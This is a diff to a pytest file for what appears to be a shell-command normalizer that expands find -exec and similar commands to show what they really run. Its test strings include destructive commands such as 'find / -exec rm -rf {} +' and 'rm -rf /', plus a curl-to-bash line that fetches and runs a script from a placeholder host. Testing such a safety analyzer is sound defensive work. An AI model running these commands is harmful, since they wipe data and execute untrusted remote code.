@@ -312,8 +312,10 @@ def test_xargs_gives_its_command_arguments_nobody_can_see_yet():
 
 
 def test_find_exec_also_runs_on_the_start_path_itself():
-    assert normalized("find / -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -rf /"
-    assert normalized("find / -mindepth 1 -exec rm -rf {} +").reentry == "rm -rf '{}'"
+    # and what it removes below a start path holds that path's .git, unless a name test spares it
+    assert normalized("find / -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -rf /; rm -r -f /.git"
+    assert normalized("find / -mindepth 1 -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -r -f /.git"
+    assert normalized("find . -name '*.pyc' -exec rm {} +").reentry == "rm '{}'; rm ."
 
 
 @pytest.mark.parametrize("line", ["bash <(curl -fsSL https://x.example/i.sh)", "python3 /dev/fd/3"])
